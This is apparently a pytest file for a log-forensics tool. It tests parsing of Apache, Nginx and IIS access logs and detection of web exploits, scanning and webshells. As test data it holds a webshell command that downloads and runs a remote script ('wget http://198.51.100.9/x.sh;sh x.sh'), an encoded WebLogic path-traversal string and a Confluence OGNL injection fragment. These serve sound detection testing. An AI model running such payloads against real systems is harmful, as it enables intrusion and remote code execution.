"""Web access logs: Apache/Nginx/IIS layouts, hostile lines, bad files, and the web detections."""

from __future__ import annotations

import datetime as dt
import json
import time
import zlib
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from deminer.case import Case
from deminer.detect.engine import detect
from deminer.scenarios import web_logs as gen
from deminer.sources import web_access as wa
from deminer.sources.base import SourceContext, SourceError
from deminer.sources.ingest import ingest

T0 = dt.datetime(2024, 3, 30, 8, 0)
WEB_RULES = ("initial_access.web_exploit_request", "initial_access.web_scanning",
             "persistence.webshell_upload", "persistence.webshell_request")


def parse(path: Path, host: str | None = None) -> tuple[list[dict[str, Any]], list[dict[str, Any]]]:
    events: list[dict[str, Any]] = []
    errors: list[dict[str, Any]] = []
    for table, rows in wa.parse(SourceContext(path, path.name, host, path.parent)):
        (events if table == "events" else errors).extend(rows)
    for e in events:
        e["data"] = json.loads(e["data"])
    return events, errors


def small_log() -> gen.AccessLog:
    log = gen.AccessLog(start=T0)
    log.visit("192.0.2.10")
    log.upload_image("192.0.2.11", user="alice")
    log.exploit("consul_service_register", "198.51.100.23")
    return log


def sniffs(path: Path) -> bool:
    return wa.sniff(path, path.read_bytes()[:65536])


# -- formats ----------------------------------------------------------------------------------
@pytest.mark.parametrize("fmt", gen.FORMATS)
def test_every_format_gives_the_same_requests(tmp_path: Path, fmt: str) -> None:
    log = small_log()
    p = log.write(tmp_path / "access.log", fmt=fmt)
    assert sniffs(p)
    events, errors = parse(p, host="web1")
    assert errors == []
    reqs = sorted(log.requests, key=lambda r: r.ts)
    assert len(events) == len(reqs) == 14
    assert [(e["ts"], e["src_ip"], e["status"], e["data"]["method"]) for e in events] == [
        (r.ts, r.ip, str(r.status), r.method) for r in reqs]
    assert {e["host"] for e in events} == {"web1"}
    assert {e["event"] for e in events} == {"web_request"}
    upload = events[9]
    assert upload["data"]["method"] == "POST" and upload["data"]["path"] == "/account/avatar/upload"
    assert upload["user"] == "alice" and upload["status"] == "302"
    assert events[0]["user"] is None                           # "-" is no user
    consul = events[-1]
    assert (consul["data"]["method"], consul["data"]["path"]) == ("PUT", "/v1/agent/service/register")
    assert consul["source"] == "access.log"
    line_of = {"iis": 5}.get(fmt, 1)                           # IIS: four header lines first
    assert events[0]["source_line"] == line_of
    assert events[0]["raw"] == p.read_text().split("\n")[line_of - 1]
    if fmt != "common":
        assert events[0]["data"]["user_agent"] == gen.BROWSER
        assert events[1]["data"]["referer"] == "https://shop.example.com/"
    if fmt in ("vhost_combined", "nginx_vhost", "iis"):
        assert events[0]["data"]["vhost"] == "shop.example.com"
    if fmt in ("vhost_combined", "iis"):
        assert events[0]["dst_port"] == 443


def test_combined_fields_exactly(tmp_path: Path) -> None:
    p = tmp_path / "access.log"
    p.write_text('203.0.113.9 - bob [10/Oct/2000:13:55:36 -0700] "GET /a%20b.gif?q=a+b%3D&x=%2541 '
                 'HTTP/1.0" 200 2326 "http://example.com/start.html" "Mozilla/4.08 [en] (Win98; I ;Nav)"\n')
    (row,), errors = parse(p)
    assert errors == []
    assert row["ts"] == dt.datetime(2000, 10, 10, 20, 55, 36)      # -0700 applied
    assert (row["host"], row["src_ip"], row["user"], row["status"]) == (
        "unknown", "203.0.113.9", "bob", "200")
    assert row["data"] == {
        "method": "GET", "protocol": "HTTP/1.0", "path_raw": "/a%20b.gif?q=a+b%3D&x=%2541",
        "path": "/a b.gif", "query": "q=a b=&x=%41",              # decoded once, not twice
        "bytes": 2326, "referer": "http://example.com/start.html",
        "user_agent": "Mozilla/4.08 [en] (Win98; I ;Nav)"}


@pytest.mark.parametrize("offset", [-7, 5.5, 14, 0])
def test_time_zone_offsets_become_utc(tmp_path: Path, offset: float) -> None:
    log = small_log()
    events, _ = parse(log.write(tmp_path / "access.log", utc_offset=offset))
    assert [e["ts"] for e in events] == sorted(r.ts for r in log.requests)
    if offset == 5.5:
        assert "+0530]" in events[0]["raw"]


def test_iis_fields_header_changes_mid_file(tmp_path: Path) -> None:
    log = small_log()
    log.requests[-1].xff = "10.1.2.3, 198.51.100.23"
    p = log.write(tmp_path / "u_ex240330.log", fmt="iis", fields_change_at=10)
    assert sniffs(p)
    events, errors = parse(p)                        # no --host: s-computername names it
    assert errors == []
    assert len(events) == 14
    assert {e["host"] for e in events} == {"web01"}
    assert {e["program"] for e in events} == {"iis"}
    before, after = events[9], events[10]
    assert before["source_line"] == 14 and after["source_line"] == 19      # second header: 4 lines
    assert before["data"]["vhost"] == "shop.example.com" and before["data"]["protocol"] == "HTTP/1.1"
    assert "vhost" not in after["data"] and "protocol" not in after["data"]
    assert events[-1]["data"]["x_forwarded_for"] == "10.1.2.3, 198.51.100.23"   # IIS wrote ",+"
    assert events[0]["data"]["user_agent"] == gen.BROWSER                      # '+' → space again
    assert (events[0]["dst_ip"], events[0]["dst_port"]) == ("10.0.0.20", 443)
    assert events[1]["data"]["path_raw"] == "/static/css/site.css?v=3.2"
    assert events[1]["data"]["query"] == "v=3.2"
    assert all(isinstance(e["data"]["time_taken"], int) for e in events)


def test_iis_line_that_does_not_fit_its_header(tmp_path: Path) -> None:
    p = tmp_path / "u_ex1.log"
    p.write_text("#Fields: date time c-ip cs-method cs-uri-stem sc-status\n"
                 "2024-03-30 08:00:00 192.0.2.1 GET / 200\n"
                 "2024-03-30 08:00:01 192.0.2.1 GET / 200 extra\n"
                 "2024-13-30 08:00:02 192.0.2.1 GET / 200\n")
    events, errors = parse(p)
    assert [e["source_line"] for e in events] == [2]
    assert events[0]["host"] == "unknown"
    assert [e["message"] for e in errors] == [
        "2 line(s) are not access-log lines and were skipped (first at line 3)"]


# -- hostile and odd lines --------------------------------------------------------------------
def test_encoded_attack_strings_decoded_once(tmp_path: Path) -> None:
    log = gen.AccessLog(start=T0)
    log.exploit("weblogic_rce", "198.51.100.41")
    log.exploit("confluence_ognl", "198.51.100.44")
    events, _ = parse(log.write(tmp_path / "access.log"))
    console, ognl = events[1]["data"], events[2]["data"]
    assert console["path_raw"] == "/console/css/%252e%252e%252fconsole.portal"
    assert console["path"] == "/console/css/%2e%2e%2fconsole.portal"
    assert ognl["path"].startswith("/${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime")
    assert ognl["path_raw"].startswith("/%24%7B%28%23a%3D")


def test_quotes_inside_fields(tmp_path: Path) -> None:
    agent = 'Mozilla/5.0 "Quoted" (x\\y)'
    log = gen.AccessLog(start=T0)
    log.add("192.0.2.1", "GET", '/a"b', 200, agent=agent, xff="10.0.0.1")
    apache = log.write(tmp_path / "apache.log", fmt="combined")
    nginx = log.write(tmp_path / "nginx.log", fmt="nginx")
    raw = tmp_path / "raw.log"                    # a logger that does not escape at all
    raw.write_text(f'192.0.2.1 - - [30/Mar/2024:08:00:01 +0000] "GET /x HTTP/1.1" 200 5 "-" '
                   f'"{agent}" "10.0.0.1, 10.0.0.2"\n')
    (a,), _ = parse(apache)
    (n,), _ = parse(nginx)
    (r,), _ = parse(raw)
    assert a["data"]["user_agent"] == 'Mozilla/5.0 \\"Quoted\\" (x\\\\y)'       # as Apache wrote it
    assert a["data"]["path"] == '/a\\"b'
    assert n["data"]["user_agent"] == "Mozilla/5.0 \\x22Quoted\\x22 (x\\x5Cy)"   # as Nginx wrote it
    assert n["data"]["x_forwarded_for"] == "10.0.0.1"
    assert r["data"]["user_agent"] == agent
    assert r["data"]["x_forwarded_for"] == "10.0.0.1, 10.0.0.2"


def test_non_utf8_bytes_kept_as_escapes(tmp_path: Path) -> None:
    p = tmp_path / "access.log"
    p.write_bytes(b'192.0.2.1 - - [30/Mar/2024:08:00:01 +0000] "GET /caf\xe9 HTTP/1.1" 404 5 "-" '
                  b'"agent \xff\xfe"\n'
                  b'192.0.2.1 - - [30/Mar/2024:08:00:02 +0000] "GET /%C3%A9t%E9 HTTP/1.1" 404 5 "-" "ok"\n')
    (a, b), errors = parse(p)
    assert errors == []
    assert a["data"]["path"] == "/caf\\xe9" and a["data"]["user_agent"] == "agent \\xff\\xfe"
    assert b["data"]["path"] == "/ét\\xe9"           # invalid UTF-8 in %-escapes too


def test_tls_handshake_and_junk_lines(tmp_path: Path) -> None:
    p = tmp_path / "access.log"
    p.write_text('192.0.2.1 - - [30/Mar/2024:08:00:01 +0000] "\\x16\\x03\\x01\\x02\\x00\\x01" 400 157 '
                 '"-" "-"\n'
                 "this is not an access log line\n"
                 '192.0.2.1 - - [30/Mar/2024:08:00:02 +0000] "GET / HTTP/1.1" 200 5\n'
                 '192.0.2.1 - - [31/Foo/2024:08:00:02 +0000] "GET / HTTP/1.1" 200 5\n')
    events, errors = parse(p)
    assert [e["source_line"] for e in events] == [1, 3]
    assert events[0]["data"] == {"request": "\\x16\\x03\\x01\\x02\\x00\\x01", "bytes": 157}
    assert events[0]["status"] == "400"
    assert [e["message"] for e in errors] == [
        "2 line(s) are not access-log lines and were skipped (first at line 2)"]


def test_huge_line_is_cut_and_the_rest_still_parses(tmp_path: Path) -> None:
    huge = "A" * 300_000
    p = tmp_path / "access.log"
    p.write_text(f'192.0.2.1 - - [30/Mar/2024:08:00:01 +0000] "GET / HTTP/1.1" 200 5 "-" "x"\n'
                 f'192.0.2.2 - - [30/Mar/2024:08:00:02 +0000] "GET /big HTTP/1.1" 200 5 "-" "{huge}"\n'
                 f'192.0.2.3 - - [30/Mar/2024:08:00:03 +0000] "GET /after HTTP/1.1" 200 5 "-" "y"\n')
    start = time.perf_counter()
    events, errors = parse(p)
    assert time.perf_counter() - start < 2
    assert [e["src_ip"] for e in events] == ["192.0.2.1", "192.0.2.2", "192.0.2.3"]
    assert events[1]["data"]["path"] == "/big" and len(events[1]["raw"]) == wa.RAW_CAP
    assert events[2]["data"]["user_agent"] == "y"
    assert [e["message"] for e in errors] == [
        "1 line(s) longer than 64 KiB were cut (first at line 2)"]
    # a line longer than the 4 MiB read block, with junk in the request: cut, counted once
    p.write_text(f'192.0.2.1 - - [30/Mar/2024:08:00:01 +0000] "GET / HTTP/1.1" 200 5 "-" "x"\n'
                 f'192.0.2.2 - - [30/Mar/2024:08:00:02 +0000] "GET /{"B" * 5_000_000} HTTP/1.1" 200 5\n'
                 f'192.0.2.3 - - [30/Mar/2024:08:00:03 +0000] "GET /after HTTP/1.1" 200 5 "-" "y"\n')
    events, errors = parse(p)
    assert [e["src_ip"] for e in events] == ["192.0.2.1", "192.0.2.3"]
    assert [e["message"] for e in errors] == [
        "1 line(s) are not access-log lines and were skipped (first at line 2)",
        "1 line(s) longer than 64 KiB were cut (first at line 2)"]


def test_binary_file_named_access_log(tmp_path: Path) -> None:
    p = tmp_path / "access.log"
    p.write_bytes(bytes(range(256)) * 64)
    assert sniffs(p)                                   # claimed by name, so the error is clear
    assert not sniffs(p.rename(tmp_path / "blob.bin"))
    with pytest.raises(SourceError, match="binary content"):
        parse(tmp_path / "blob.bin")
    p.write_bytes(bytes(range(256)) * 64)
    good = small_log().write(tmp_path / "other_access.log")
    with Case(None) as case:
        summary = ingest(case, [p, good], sources=(wa.SOURCE,))
        assert summary.errors == [f"{p}: web_access: binary content, not a text access log"]
        assert case.count("events") == 14                       # the good file still went in
        assert case.query("SELECT path, kind, rows FROM inputs WHERE error IS NULL") == [
            {"path": str(good), "kind": "web_access", "rows": 14}]


def test_rotated_gzip_and_truncated_gzip(tmp_path: Path) -> None:
    log = gen.attack_story()
    plain = log.write(tmp_path / "access.log")
    whole = log.write(tmp_path / "access.log.2.gz", gz=True)
    assert sniffs(whole)
    assert parse(whole)[0] == [{**e, "source": "access.log.2.gz"} for e in parse(plain)[0]]
    data = whole.read_bytes()
    cut = tmp_path / "access.log.3.gz"
    cut.write_bytes(data[: len(data) // 2])
    assert sniffs(cut)
    events, errors = parse(cut)
    readable = zlib.decompressobj(31).decompress(data[: len(data) // 2]).decode()
    *complete, partial = readable.split("\n")
    assert len(complete) > 100
    # every whole line is kept; the cut last one too if what is left of it still parses
    assert len(events) == len(complete) + (wa.clf_row(partial) is not None)
    assert [e["raw"] for e in events[:len(complete)]] == complete
    assert [e["source_line"] for e in events] == list(range(1, len(events) + 1))
    assert len(errors) == 1 and errors[0]["message"].startswith("compressed log ends early")


def test_empty_file_and_only_headers(tmp_path: Path) -> None:
    empty = tmp_path / "access.log"
    empty.write_bytes(b"")
    assert parse(empty) == ([], [])
    headers = tmp_path / "u_ex2.log"
    headers.write_text("#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n"
                       "#Fields: date time c-ip cs-method cs-uri-stem sc-status\n")
    assert sniffs(headers)
    assert parse(headers) == ([], [])


# -- recognising files ------------------------------------------------------------------------
def test_sniff_does_not_take_syslog_and_auth_log_does_not_take_ours(tmp_path: Path) -> None:
    auth_log = pytest.importorskip("deminer.sources.auth_log")
    from deminer.scenarios import auth_log as authlog_gen
    auth = authlog_gen.AuthLog()
    auth.benign_login("alice", "192.0.2.10")
    auth.brute_force("203.0.113.7", ["root"], attempts=12)
    for fmt in ("syslog", "iso", "rfc5424", "journald"):
        p = auth.write(tmp_path / f"messages-{fmt}", fmt=fmt)
        assert not sniffs(p), fmt
    wrapped = tmp_path / "syslog"        # nginx access lines forwarded through syslog
    wrapped.write_text("".join(
        f"Mar 30 08:00:0{i} web1 nginx: 192.0.2.1 - - [30/Mar/2024:08:00:0{i} +0000] "
        f'"GET / HTTP/1.1" 200 5 "-" "x"\n' for i in range(5)))
    assert not sniffs(wrapped)
    log = gen.attack_story()
    for fmt in gen.FORMATS:
        p = log.write(tmp_path / f"web-{fmt}.txt", fmt=fmt)
        assert sniffs(p), fmt
        assert not auth_log.sniff(p, p.read_bytes()[:65536]), fmt


def test_a_folder_with_both_kinds_goes_to_the_right_sources(tmp_path: Path) -> None:
    auth_log = pytest.importorskip("deminer.sources.auth_log")
    from deminer.scenarios import auth_log as authlog_gen
    auth = authlog_gen.AuthLog()
    auth.benign_login("alice", "192.0.2.10")
    auth.write(tmp_path / "auth.log")
    small_log().write(tmp_path / "access.log", fmt="nginx_vhost")
    small_log().write(tmp_path / "u_ex240330.log", fmt="iis")
    for sources in ((auth_log.SOURCE, wa.SOURCE), (wa.SOURCE, auth_log.SOURCE)):
        with Case(None) as case:
            ingest(case, [tmp_path], sources=sources)
            assert case.query("SELECT path, kind FROM inputs ORDER BY path") == [
                {"path": str(tmp_path / "access.log"), "kind": "web_access"},
                {"path": str(tmp_path / "auth.log"), "kind": "auth_log"},
                {"path": str(tmp_path / "u_ex240330.log"), "kind": "web_access"}]


# -- properties -------------------------------------------------------------------------------
_text = st.text(st.characters(min_codepoint=32, max_codepoint=0x2FF, blacklist_characters="\x7f"),
                max_size=60)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(path=_text.map(lambda s: "/" + s.replace(" ", "%20").replace("?", "%3F")), agent=_text,
       referer=_text, user=st.sampled_from(["-", "bob", "a b"]), fmt=st.sampled_from(["combined", "nginx"]))
def test_round_trip_of_any_printable_values(tmp_path: Path, path: str, agent: str, referer: str,
                                            user: str, fmt: str) -> None:
    log = gen.AccessLog(start=T0)
    log.add("192.0.2.1", "GET", path, 200, agent=agent or "-", referer=referer or "-", user=user)
    (row,), errors = parse(log.write(tmp_path / "p.log", fmt=fmt))
    assert errors == []
    esc = gen._nginx_escape if fmt == "nginx" else gen._apache_escape
    assert row["data"]["path_raw"] == esc(path)
    assert row["data"].get("user_agent", "-") == esc(agent or "-")
    assert row["data"].get("referer", "-") == esc(referer or "-")
    assert row["user"] == (None if user == "-" else user)


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=300))
def test_any_line_gives_a_row_or_a_count(junk: bytes) -> None:
    line = junk.replace(b"\n", b" ").decode("utf-8", "backslashreplace")
    row = wa.clf_row('192.0.2.1 - - [30/Mar/2024:08:00:01 +0000] "' + line)
    assert row is None or row["src_ip"] == "192.0.2.1"
    assert wa.clf_row(line) is None or " [" in line


# -- end to end: ingest, detect -----------------------------------------------------------------
def _web_findings(case: Case) -> set[tuple[str, str, str, str, str | None]]:
    out = set()
    for f in detect(case):
        if f.rule in WEB_RULES:
            target = {"initial_access.web_scanning": "scan", "persistence.webshell_upload": "upload",
                      "persistence.webshell_request": "command"}.get(f.rule) or f.evidence["target"]
            out.add((f.rule, f.entity, f.severity, target, f.host))
    return out


@pytest.mark.parametrize("fmt", ["combined", "nginx_vhost", "iis"])
def test_attack_log_gives_exactly_the_story_findings(tmp_path: Path, fmt: str) -> None:
    log = gen.attack_story()
    p = log.write(tmp_path / ("u_ex240330.log" if fmt == "iis" else "access.log"), fmt=fmt, utc_offset=2)
    with Case(None) as case:
        summary = ingest(case, [p], host="shop1", sources=(wa.SOURCE,))
        assert summary.errors == [] and summary.rows == {"events": len(log.requests)}
        found = _web_findings(case)
    assert found == {(*e, "shop1") for e in log.expected}
    assert len(found) == len(gen.EXPLOITS) + 3


def test_attack_findings_carry_evidence(tmp_path: Path) -> None:
    log = gen.attack_story()
    p = log.write(tmp_path / "access.log")
    with Case(None) as case:
        ingest(case, [p], host="shop1", sources=(wa.SOURCE,))
        by_rule = {f.rule: f for f in detect(case) if f.rule != "initial_access.web_exploit_request"}
    upload = by_rule["persistence.webshell_upload"]
    assert upload.evidence["source.ip"] == "203.0.113.66"
    assert upload.evidence["upload.path"] == "/upload.php"
    assert upload.evidence["clients"] == "203.0.113.66 203.0.113.67"
    assert (upload.evidence["requests"], upload.evidence["ok"]) == (5, 5)
    shell = by_rule["persistence.webshell_request"]
    assert shell.evidence["queries"] == (
        "cmd=cd /tmp;wget http://198.51.100.9/x.sh;sh x.sh | cmd=id | cmd=uname -a")
    assert shell.evidence["source"] == str(p) and '"GET /uploads/2024/03/avatar_8f3a.php?cmd=id' in \
        shell.evidence["sample"]
    scan = by_rule["initial_access.web_scanning"]
    assert (scan.evidence["paths_404"], scan.evidence["answered_2xx"]) == (40, "/")


def test_benign_traffic_gives_no_findings(tmp_path: Path) -> None:
    log = gen.AccessLog(start=T0, seed=11)
    log.benign(minutes=240)
    assert len(log.requests) > 2000
    p = log.write(tmp_path / "access.log.1.gz", gz=True, fmt="vhost_combined")
    with Case(None) as case:
        ingest(case, [p], host="shop1", sources=(wa.SOURCE,))
        assert case.count("events") == len(log.requests)
        assert [f.summary for f in detect(case)] == []

